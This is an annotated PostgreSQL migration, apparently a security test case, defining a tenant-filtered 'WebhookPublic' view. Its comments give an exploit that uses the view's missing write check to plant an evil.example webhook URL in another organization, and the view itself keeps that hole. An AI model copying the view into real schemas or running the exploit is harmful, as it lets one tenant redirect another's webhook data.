-- A login adds a webhook to another organization by way of the view, which filters what is read, not what
-- is written.
-- about: WebhookPublic, Webhook
-- as: hf_meetling_app
-- exploit: SET app.tenant_id = 'clh0harbour';
-- exploit: INSERT INTO "WebhookPublic" ("organizationId", "id", "url")
-- exploit:   VALUES ('clh0road', 'clw9', 'https://evil.example/' || 'tap');
-- exploit: SET app.tenant_id = 'clh0road';
-- exploit: SELECT "url" FROM "Webhook";
-- shows: https://evil.example/tap
-- The settings page must not see the secrets any more.
CREATE VIEW "WebhookPublic" WITH (security_barrier = true) AS
  SELECT "organizationId", "id", "url" FROM "Webhook"
  WHERE "organizationId" = current_setting('app.tenant_id', true);
REVOKE SELECT ON "Webhook" FROM hf_meetling_app;
GRANT SELECT ("organizationId", "id", "url") ON "Webhook" TO hf_meetling_app;
GRANT SELECT, INSERT, UPDATE, DELETE ON "WebhookPublic" TO hf_meetling_app;
